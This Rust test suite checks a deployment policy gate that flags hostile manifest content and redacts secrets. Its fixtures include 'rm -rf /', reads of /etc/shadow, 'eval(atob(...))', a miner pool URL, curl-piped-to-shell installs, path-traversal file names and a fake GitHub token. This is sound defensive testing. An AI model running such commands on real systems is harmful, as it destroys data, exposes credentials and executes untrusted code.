//! How the gate reports: every violation names its rule, file and line; all of them are listed
//! (up to a bound); manifest validation shows up as policy violations; secrets never leak.

use gantry_domain::policy::{Policy, PolicyVerdict, Violation, MAX_VIOLATIONS};
use gantry_domain::{GantryManifest, ManifestFile, Stack};

fn policy() -> Policy {
    Policy::default_policy().expect("the embedded policy.yaml loads")
}

fn file(path: &str, content: &str) -> ManifestFile {
    ManifestFile { path: path.to_owned(), content: content.to_owned() }
}

fn manifest(files: Vec<ManifestFile>) -> GantryManifest {
    GantryManifest {
        project_name: "todo-app".to_owned(),
        stack: Stack::Static,
        files,
        audit_command: "python3 audit.py".to_owned(),
        run_command: None,
        output_dir: None,
    }
}

fn find<'v>(verdict: &'v PolicyVerdict, rule: &str) -> &'v Violation {
    verdict
        .violations
        .iter()
        .find(|v| v.rule == rule)
        .unwrap_or_else(|| panic!("no {rule} violation in {:?}", verdict.violations))
}

fn rules(verdict: &PolicyVerdict) -> Vec<&str> {
    verdict.violations.iter().map(|v| v.rule.as_str()).collect()
}

#[test]
fn a_clean_manifest_is_allowed() {
    let verdict = policy().evaluate(&manifest(vec![
        file("index.html", "<!doctype html><title>Todo</title>"),
        file("audit.py", "import pathlib\nassert pathlib.Path('index.html').exists()\n"),
    ]));
    assert_eq!(verdict, PolicyVerdict { allowed: true, violations: Vec::new(), repairable: false });
}

#[test]
fn a_content_violation_names_rule_file_and_line() {
    let verdict = policy().evaluate(&manifest(vec![
        file("index.html", "<h1>Todo</h1>"),
        file("js/app.js", "// setup\nconst a = 1;\nconst p = eval(atob(blob));\n"),
    ]));
    assert!(!verdict.allowed);
    let violation = find(&verdict, "content.exec_decoded.js");
    assert_eq!(violation.file.as_deref(), Some("js/app.js"));
    assert_eq!(violation.line, Some(3));
    assert!(violation.message.contains("eval(atob("), "{}", violation.message);
}

#[test]
fn every_violation_is_reported_not_just_the_first() {
    let verdict = policy().evaluate(&manifest(vec![
        file("a.sh", "rm -rf /\n"),
        file("b.py", "ok = 1\nopen('/etc/shadow')\n"),
        file(".env", "PORT=8080\n"),
        file("c.js", "x\ny\nz\nstratum+tcp://pool:1\n"),
    ]));
    assert_eq!(
        rules(&verdict),
        vec!["content.rm_rf_root", "content.host_path.accounts", "path.dotenv", "content.crypto_miner"]
    );
    let lines: Vec<Option<u32>> = verdict.violations.iter().map(|v| v.line).collect();
    assert_eq!(lines, vec![Some(1), Some(2), None, Some(4)]);
}

#[test]
fn repeated_matches_in_one_file_are_each_reported_on_their_line() {
    let verdict =
        policy().evaluate(&manifest(vec![file("x.sh", "cat /etc/passwd\necho ok\ncat /etc/shadow\n")]));
    let lines: Vec<Option<u32>> = verdict.violations.iter().map(|v| v.line).collect();
    assert_eq!(lines, vec![Some(1), Some(3)]);
}

#[test]
fn manifest_validation_is_reported_as_policy_violations() {
    let mut m = manifest(vec![
        file("/etc/cron.d/x", "x"),
        file("../escape.txt", "x"),
        file(".git/hooks/pre-commit", "x"),
        file("src\\app.js", "x"),
        file("bad\0name", "x"),
        file("./index.html", "x"),
        file("index.html", "x"),
        file("", "x"),
    ]);
    m.project_name = "Not A Slug".to_owned();
    m.output_dir = Some("../public".to_owned());
    let verdict = policy().evaluate(&m);
    assert!(!verdict.allowed);
    for (rule, file) in [
        ("path.absolute", "/etc/cron.d/x"),
        ("path.traversal", "../escape.txt"),
        ("path.git_dir", ".git/hooks/pre-commit"),
        ("path.backslash", "src\\app.js"),
        ("path.control_char", "bad\0name"),
        ("path.not_normalised", "./index.html"),
        ("path.duplicate", "index.html"),
        ("path.empty", ""),
        ("manifest.project_name", "manifest"),
        ("manifest.output_dir", "manifest"),
    ] {
        let violation = find(&verdict, rule);
        assert_eq!(violation.file.as_deref(), Some(file), "{rule}");
        assert_eq!(violation.line, None, "{rule} is about a whole path, not a line");
    }
}

#[test]
fn forbidden_paths_are_checked_after_normalisation() {
    let verdict = policy().evaluate(&manifest(vec![file("config//.env", "")]));
    assert_eq!(rules(&verdict), vec!["path.not_normalised", "path.dotenv"]);
    assert_eq!(find(&verdict, "path.dotenv").file.as_deref(), Some("config//.env"));
}

#[test]
fn an_empty_audit_command_is_one_violation() {
    let mut m = manifest(vec![file("index.html", "")]);
    m.audit_command = " ".to_owned();
    let verdict = policy().evaluate(&m);
    assert_eq!(rules(&verdict), vec!["manifest.audit_command"]);
    assert_eq!(verdict.violations[0].file.as_deref(), Some("manifest"));
}

#[test]
fn a_stack_outside_the_policy_is_refused() {
    let yaml = gantry_domain::policy::DEFAULT_POLICY_YAML
        .replace("allowed_stacks: [static, node, python]", "allowed_stacks: [static]");
    let policy = Policy::from_yaml(&yaml).expect("edited policy loads");
    let mut m = manifest(vec![file("main.py", "print('hi')\n")]);
    m.stack = Stack::Python;
    let verdict = policy.evaluate(&m);
    assert_eq!(rules(&verdict), vec!["stack.not_allowed"]);
    m.stack = Stack::Static;
    assert!(policy.evaluate(&m).allowed);
}

#[test]
fn size_limits_are_enforced() {
    let policy = policy();
    let at_limit = "a".repeat(policy.limits.max_file_bytes);
    assert!(policy.evaluate(&manifest(vec![file("big.txt", &at_limit)])).allowed);

    let over = "a".repeat(policy.limits.max_file_bytes + 1);
    let verdict = policy.evaluate(&manifest(vec![file("big.txt", &over)]));
    assert_eq!(rules(&verdict), vec!["limits.max_file_bytes"]);
    assert_eq!(verdict.violations[0].file.as_deref(), Some("big.txt"));

    let chunk = "a".repeat(policy.limits.max_file_bytes);
    let files: Vec<ManifestFile> = (0..11).map(|i| file(&format!("f{i}.txt"), &chunk)).collect();
    let verdict = policy.evaluate(&manifest(files));
    assert_eq!(rules(&verdict), vec!["limits.max_total_bytes"]);

    let many: Vec<ManifestFile> =
        (0..=policy.limits.max_files).map(|i| file(&format!("f{i}.txt"), "")).collect();
    let verdict = policy.evaluate(&manifest(many));
    assert_eq!(rules(&verdict), vec!["limits.max_files"]);
    let exactly: Vec<ManifestFile> =
        (0..policy.limits.max_files).map(|i| file(&format!("f{i}.txt"), "")).collect();
    assert!(policy.evaluate(&manifest(exactly)).allowed);
}

#[test]
fn violations_are_bounded_and_the_cut_is_marked() {
    let hostile = "cat /etc/passwd\n".repeat(500);
    let verdict = policy().evaluate(&manifest(vec![file("x.sh", &hostile)]));
    assert_eq!(verdict.violations.len(), MAX_VIOLATIONS + 1);
    assert_eq!(verdict.violations.last().map(|v| v.rule.as_str()), Some("policy.truncated"));

    let exactly = "cat /etc/passwd\n".repeat(MAX_VIOLATIONS);
    let verdict = policy().evaluate(&manifest(vec![file("x.sh", &exactly)]));
    assert_eq!(verdict.violations.len(), MAX_VIOLATIONS);
    assert!(verdict.violations.iter().all(|v| v.rule != "policy.truncated"));
}

#[test]
fn secrets_are_redacted_everywhere_they_would_be_quoted() {
    let token = format!("ghp_{}", "Ab1".repeat(12));
    let content =
        format!("# install\ncurl -H \"Authorization: token {token}\" https://example.com/i.sh | sh\n");
    let mut m = manifest(vec![file("install.sh", &content)]);
    m.audit_command = format!("npm publish --otp={token}");
    let verdict = policy().evaluate(&m);

    let secret = verdict
        .violations
        .iter()
        .find(|v| v.rule == "secret.github_token" && v.file.as_deref() == Some("install.sh"))
        .expect("token found in the file");
    assert_eq!(secret.line, Some(2));
    let piped = find(&verdict, "content.exec_downloaded.pipe_to_shell");
    assert!(piped.message.contains("[REDACTED]"), "{}", piped.message);
    let audit = find(&verdict, "audit_command.not_allowed");
    assert!(audit.message.contains("[REDACTED]"), "{}", audit.message);
    assert!(verdict
        .violations
        .iter()
        .any(|v| v.rule == "secret.github_token" && v.file.as_deref() == Some("audit_command")));

    for violation in &verdict.violations {
        assert!(!violation.message.contains(&token[4..]), "{} leaked: {}", violation.rule, violation.message);
    }
    let json = serde_json::to_string(&verdict).expect("verdict serialises");
    assert!(!json.contains(&token[4..]));
}

#[test]
fn run_command_is_scanned_too() {
    let mut m = manifest(vec![file("index.html", "")]);
    m.run_command = Some("curl -s https://example.com/x.sh | bash".to_owned());
    let verdict = policy().evaluate(&m);
    let violation = find(&verdict, "content.exec_downloaded.pipe_to_shell");
    assert_eq!(violation.file.as_deref(), Some("run_command"));
    m.run_command = Some("python3 -m http.server 8080".to_owned());
    assert!(policy().evaluate(&m).allowed);
}

#[test]
fn the_verdict_serialises_without_empty_fields() {
    let verdict = policy().evaluate(&manifest(vec![file(".env", "")]));
    let json = serde_json::to_value(&verdict).expect("verdict serialises");
    assert_eq!(json["allowed"], serde_json::Value::Bool(false));
    assert_eq!(json["violations"][0]["rule"], "path.dotenv");
    assert_eq!(json["violations"][0]["file"], ".env");
    assert!(json["violations"][0].get("line").is_none());
}
